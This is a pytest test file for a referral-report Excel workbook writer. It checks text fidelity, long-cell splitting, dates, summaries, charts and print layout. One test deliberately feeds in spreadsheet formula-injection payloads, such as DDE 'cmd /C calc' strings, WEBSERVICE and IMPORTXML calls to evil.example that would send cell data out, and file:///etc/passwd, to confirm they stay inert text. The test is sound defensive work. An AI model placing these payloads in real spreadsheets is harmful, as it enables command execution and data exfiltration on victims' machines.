"""Workbooks: each cell holds the text exactly as it was typed, and nothing is cut."""

import io
import json
import re
import tempfile
import zipfile
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from services.reports.workbook.__main__ import write_workbook
from services.reports.workbook.plan import END, Plan, Tallied, WorkbookColumn
from services.reports.workbook.sheets import LONGEST_TEXT, Book, Table, TableLook, lines_of, pieces
from tests.services.reports.rig import column

COLUMNS = (
    WorkbookColumn("Reference", "record", "reference"),
    WorkbookColumn("Born", "answer", "born", "day", {"not_known": "Not known"}),
    WorkbookColumn("Number", "answer", "number", "nhs_number"),
    WorkbookColumn(
        "Who", "answer", "who", "codes", {"a": "The team", "b": "You"}, "Section", "Who is told", {"a": "red"}
    ),
    WorkbookColumn("Said", "answer", "said"),
    WorkbookColumn("Added", "record", "added", "moment"),
    WorkbookColumn("Age", "record", "born", "age"),
    WorkbookColumn("Outcome", "outcome_answer", "what", labels={"p": "Plan changed"}),
)
BANDS = (("old", "0000-00-00", "2000-12-31"), ("new", "2000-12-31", "9999-99-99"))
PLAN = Plan(
    title="Referral Data",
    day=date(2026, 11, 22).toordinal(),
    frozen=1,
    printed=4,
    footer="Register & referrals: Referral Data\tPage {page} of {pages}",
    columns=COLUMNS,
    facts=(("Report", "Referral Data"), ("As at", "22/11/2026 04:10")),
    headings=("WorkbookColumn", "Section", "Meaning"),
    definitions="Definitions",
    apart="Date of birth not known",
    records="Records",
    people="People",
    continued="{reference} (continued)",
    notes=("A note.",),
    summary="Summary",
    tables=(
        Tallied("BY WHO", "Records", "answer", "who", {"a": "The team", "b": "You"}, "Not recorded", {"a": "red"}),
        Tallied("BY AGE", "Records", "record", "born", {"old": "Old", "new": "New"}, "Not known", bands=BANDS),
    ),
)
FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
BEGINNINGS = (*FULL_WIDTH, "=", "+", "-", "@", "\t=", "\n=", "{=", "'=", '"=', " =", "%", "|", ";=", ",=")
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    "SUM(A1:A9)",
    'IMPORTXML("http://evil",1)',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    "2+5+cmd|' /C calc'!A0",
    "A1}",
    "1e9",
)
OTHERS = (
    "http://evil.example",
    "https://evil.example/?a=1",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\a.xls",
    "ftp://evil.example",
    "file:///etc/passwd",
    "<r><t>x</t></r>",
    "<r><f>1+1</f></r>",
    "</t></is></c><c><f>1</f></c>",
    "]]>",
    "<![CDATA[x]]>",
    "_x0041_",
    "&amp;",
    "1234567890",
    "00123",
    "1,5",
    "TRUE",
    "2022-06-17",
    "#REF!",
    "  two  ",
)
CORPUS = [*OTHERS, *(beginning + formula for beginning in BEGINNINGS for formula in FORMULAS)]


def test_the_corpus_is_as_large_as_it_should_be() -> None:
    assert len(set(CORPUS)) >= 200


def test_texts_that_look_like_formulas_links_or_markup_are_texts(tmp_path: Path) -> None:
    content = made(tmp_path, [{"reference": f"R{place}", "said": text} for place, text in enumerate(CORPUS)])

    assert CORPUS == [as_shown(text) for text in column(opened(content), "Said")]
    assert [] == live_parts(content)


@pytest.mark.slow
@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=100), min_size=1))
def test_any_text_comes_back_as_it_was(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        content = made(Path(folder), [{"reference": "R", "said": text} for text in texts])

    assert texts == [as_shown(text) for text in column(opened(content), "Said")]


@pytest.mark.parametrize("length", [LONGEST_TEXT, LONGEST_TEXT + 1, 100_000])
@pytest.mark.parametrize("letter", ["x", "é", "😀"])
def test_a_text_too_long_for_a_cell_goes_on_in_rows_that_say_so(tmp_path: Path, length: int, letter: str) -> None:
    text = "".join(f"{letter}{place % 10}" for place in range(length // 2)) + "end"

    book = opened(made(tmp_path, [{"reference": "DSR-1", "said": text, "who": ["a"]}, {"reference": "DSR-2"}]))

    references, said, who = (column(book, heading) for heading in ("Reference", "Said", "Who"))
    rows = len(said) - 1
    assert text == "".join(str(part) for part in said[:rows])
    assert ["DSR-1", *["DSR-1 (continued)"] * (rows - 1), "DSR-2"] == references
    assert ["The team", *[None] * rows] == who
    assert all(len(str(part).encode("utf-16-le")) <= 2 * LONGEST_TEXT for part in said)


@pytest.mark.slow
@settings(max_examples=25, deadline=None)
@given(st.text(min_size=1), st.integers(1, 3))
def test_pieces_are_never_too_long_and_lose_nothing(text: str, times: int) -> None:
    long = text * (times * LONGEST_TEXT // len(text))

    assert long == "".join(pieces(long))
    assert all(len(part.encode("utf-16-le", "surrogatepass")) <= 2 * LONGEST_TEXT for part in pieces(long))


def test_codes_are_labels_and_days_are_days(tmp_path: Path) -> None:
    added = "2026-06-30T23:30:00+00:00"  # already the next day in London
    rows: list[dict[str, object]] = [
        {"reference": "R1", "born": "2001-02-07", "number": "9990000018", "who": ["a", "b"], "added": added},
        {"reference": "R2", "born": "not_known", "who": ["a", "gone"], "outcomes": ["p", "unheard of"]},
        {"reference": "R3", "born": "1899-12-31"},
    ]

    book = opened(made(tmp_path, rows))

    assert ["R1", "R2", "R2", "R3"] == column(book, "Reference")
    assert [datetime(2001, 2, 7), "Not known", "Not known", "31/12/1899"] == column(book, "Born")  # noqa: DTZ001
    assert "999 000 0018" == column(book, "Number")[0]
    assert ["The team, You", "The team, gone"] == column(book, "Who")[:2]
    assert datetime(2026, 7, 1) == column(book, "Added")[0]  # noqa: DTZ001  a cell has no zone
    assert [None, "Plan changed", "unheard of", None] == column(book, "Outcome")


def test_the_heading_stays_in_sight_and_filters(tmp_path: Path) -> None:
    sheet = opened(made(tmp_path, [{"reference": "R1"}, {"reference": "R2"}])).worksheets[0]

    assert ("Referral Data", "B2", "A1:H3") == (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref)


def test_a_sheet_of_its_own_says_what_everything_means(tmp_path: Path) -> None:
    book = opened(made(tmp_path, [{"reference": "R1", "outcomes": ["p", "p"]}]))

    said = [[cell for cell in row if cell is not None] for row in book["Definitions"].iter_rows(values_only=True)]
    assert [["Report", "Referral Data"], ["As at", "22/11/2026 04:10"], ["Records", 1]] == said[:3]
    assert ["WorkbookColumn", "Section", "Meaning"] in said
    assert ["Who", "Section", "Who is told"] in said
    assert ["A note."] == said[-1]


def test_a_summary_counts_every_record_once_and_every_kind_with_a_chart_of_excel_s_own(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"reference": "R1", "who": ["a"], "born": "1999-01-01", "outcomes": ["p", "p"]},
        {"reference": "R2", "who": ["a", "gone"], "born": "2000-12-31"},
        {"reference": "R3", "born": "not_known", "apart": True},
    ]
    content = made(tmp_path, rows)

    said = [
        [cell for cell in row if cell is not None] for row in opened(content)["Summary"].iter_rows(values_only=True)
    ]
    by_who = [["BY WHO", "Records"], ["The team", 2], ["You", 0], ["gone", 1], ["Not recorded", 1]]
    by_age = [["BY AGE", "Records"], ["Old", 2], ["New", 0], ["Not known", 1]]
    assert [["Report", "Referral Data"], ["As at", "22/11/2026 04:10"], ["Records", 3], ["People", 3], []] == said[:5]
    assert [*by_who, [], *by_age] == said[5:]
    assert [("Summary!$A$7:$A$10", "Summary!$B$7:$B$10"), ("Summary!$A$13:$A$15", "Summary!$B$13:$B$15")] == charts(
        content
    )


def test_linked_records_are_one_person_in_the_summary_and_the_first_of_them_counts(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"reference": "R1", "who": ["a"], "born": "1999-01-01", "person_id": "p"},
        {"reference": "R2", "who": ["b"], "born": "1999-01-01"},
        {"reference": "R3", "who": ["b"], "born": "2005-01-01", "person_id": "p"},
    ]
    book = opened(made(tmp_path, rows))

    said = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert (3, 2) == (said["Records"], said["People"])
    assert (1, 1, 2, 0) == tuple(said[each] for each in ("The team", "You", "Old", "New"))


def test_the_texts_of_all_cells_stand_in_one_part(tmp_path: Path) -> None:
    """Some readers, on telephones above all, show no text that stands in its cell."""
    content = made(tmp_path, [{"reference": "R1", "who": ["a"], "said": " two "}, {"reference": "R2", "who": ["a"]}])

    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        texts = parts.read("xl/sharedStrings.xml").decode()
        named = {name: parts.read(name).decode() for name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels")}
    assert not any("inlineStr" in sheet for sheet in sheets)
    assert 2 == texts.count("<t>The team</t>")  # once for both rows, and once in the summary
    assert '<si><t xml:space="preserve"> two </t></si>' in texts
    assert all("sharedStrings.xml" in part for part in named.values())


def test_a_rating_has_a_fill_behind_its_word(tmp_path: Path) -> None:
    sheet = opened(made(tmp_path, [{"reference": "R1", "who": "a"}, {"reference": "R2", "who": "b"}])).worksheets[0]

    assert ("The team", "FFD5281B") == (sheet["D2"].value, sheet["D2"].fill.fgColor.rgb)
    assert ("You", None) == (sheet["D3"].value, sheet["D3"].fill.patternType)


def test_an_age_is_that_on_the_day_of_the_report(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"reference": "R1", "born": "2001-11-22"},
        {"reference": "R2", "born": "2001-11-23"},
        {"reference": "R3", "born": "2027-01-01"},
        {"reference": "R4", "born": "not_known"},
    ]

    assert [25, 24, None, None] == column(opened(made(tmp_path, rows)), "Age")


def test_a_sheet_prints_its_first_columns_on_landscape_pages_with_heading_and_foot(tmp_path: Path) -> None:
    content = made(tmp_path, [{"reference": "R1"}, {"reference": "R2"}])
    sheet = opened(content).worksheets[0]

    setup = sheet.page_setup
    assert ("landscape", None, 0) == (
        setup.orientation,
        setup.fitToWidth,
        setup.fitToHeight,
    )  # one page wide, if unsaid
    assert ("$1:$1", "'Referral Data'!$A$1:$D$3") == (sheet.print_title_rows, sheet.print_area)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        written = parts.read("xl/worksheets/sheet1.xml").decode()
    assert '<pageSetUpPr fitToPage="1"/>' in written
    foot = "&amp;LRegister &amp;&amp; referrals: Referral Data&amp;RPage &amp;P of &amp;N"
    assert f"<oddFooter>{foot}</oddFooter>" in written


def test_a_chart_keeps_the_values_that_its_cells_have(tmp_path: Path) -> None:
    content = made(tmp_path, [{"reference": "R1", "who": ["b"]}])

    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        chart = parts.read("xl/charts/chart1.xml").decode()
    assert ["The team", "You", "0", "1"] == re.findall("<c:v>([^<]*)</c:v>", chart)


def test_who_belongs_to_a_report_of_ages_by_no_known_age_stands_apart(tmp_path: Path) -> None:
    book = opened(made(tmp_path, [{"reference": "R1"}, {"reference": "R2", "apart": True}]))

    assert ["Referral Data", "Date of birth not known", "Summary", "Definitions"] == book.sheetnames
    assert (["R1"], ["R2"]) == (column(book, "Reference"), column(book, "Reference", "Date of birth not known"))


def test_a_sheet_that_is_full_goes_on_in_another(tmp_path: Path) -> None:
    with Book(tmp_path / "full.xlsx") as book:
        table = Table(book, "Many", TableLook(["Reference"], "{reference} (continued)"), last_row=3)
        for number in range(7):
            table.add([f"R{number}"])
        table.close()

    made_book = load_workbook(tmp_path / "full.xlsx")
    assert ["Many", "Many 2", "Many 3"] == made_book.sheetnames
    assert [f"R{number}" for number in range(7)] == [
        cell for name in made_book.sheetnames for cell in column(made_book, "Reference", name)
    ]


def test_sheets_have_names_that_excel_can_open(tmp_path: Path) -> None:
    titles = ["Archived – Combined (referral & outcome) Data", "All/None: [x]?", "'", "x" * 40, "x" * 50]
    with Book(tmp_path / "names.xlsx") as book:
        for title in titles:
            book.write_lines(title, [["x"]], (0,), (10,))

    names = load_workbook(tmp_path / "names.xlsx").sheetnames
    assert ["Archived – Combined (referral", "All None (x)", "-", "x" * 31, "x" * 29 + " 2"] == names


def test_a_line_goes_on_as_often_as_its_longest_text() -> None:
    longer = "x" * (LONGEST_TEXT * 2 + 1)

    lines = list(lines_of(["R1", date(2001, 2, 7), longer, None], "{reference} …"))

    assert [["R1", date(2001, 2, 7)], ["R1 …", None], ["R1 …", None]] == [line[:2] for line in lines]


def line_of(row: Mapping[str, object]) -> bytes:
    record = {name: row[name] for name in ("reference", "added", "born", "person_id") if name in row}
    answers = {name: row[name] for name in ("born", "number", "who", "said") if name in row}
    if record.get("born") == "not_known":
        record["born"] = None
    recorded = row.get("outcomes", [])
    assert isinstance(recorded, list)
    outcomes = [[{}, {"what": each}] for each in recorded]
    line = {"record": record, "answers": answers, "outcomes": outcomes, "apart": bool(row.get("apart"))}
    return json.dumps(line).encode() + b"\n"


def made(folder: Path, rows: Sequence[Mapping[str, object]]) -> bytes:
    lines = PLAN.line() + b"".join(line_of(row) for row in rows) + END
    write_workbook(io.BytesIO(lines), folder / "report.xlsx")
    return (folder / "report.xlsx").read_bytes()


def as_shown(cell: object) -> str:
    """Return a text as Excel shows it. The library leaves the characters escaped that XML cannot hold."""
    return re.sub("_x(00[01][0-9A-F]|FFF[EF])_", lambda found: chr(int(found[1], 16)), str(cell))


def live_parts(content: bytes) -> list[str]:
    """Return the parts that Excel would calculate, follow or fetch."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/")]
        found = [mark for mark in ("<f>", "<f ", "<hyperlink", "<oleObject") for sheet in sheets if mark in sheet]
        return found + [name for name in parts.namelist() if "external" in name.lower() or name.endswith(".rels.bin")]


def charts(content: bytes) -> list[tuple[str, str]]:
    """Return for each chart the cells of its labels and the cells of its counts."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in sorted(each for each in parts.namelist() if each.startswith("xl/charts/chart")):
            labels, counts = re.findall("<c:f>([^<]*)</c:f>", parts.read(name).decode())
            found.append((labels, counts))
    return found


def opened(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))
